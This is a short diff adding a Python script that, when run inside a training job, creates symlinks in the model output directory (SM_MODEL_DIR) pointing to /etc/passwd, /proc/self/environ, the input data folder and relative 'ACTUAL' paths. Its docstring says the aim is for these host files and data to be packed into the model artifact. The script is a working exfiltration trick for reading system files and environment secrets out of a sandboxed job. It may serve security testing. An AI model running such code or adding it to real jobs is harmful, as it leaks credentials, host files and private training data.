@@ -1,0 +1,7 @@
+"""Leaves links to files of the host and to the data, in the hope that they are packed."""
+
+import os
+
+folder = os.environ["SM_MODEL_DIR"]
+for number, path in enumerate(("/etc/passwd", "ACTUAL", "../../ACTUAL", "/proc/self/environ", "../input/data")):
+    os.symlink(path, folder + f"/link{number}")
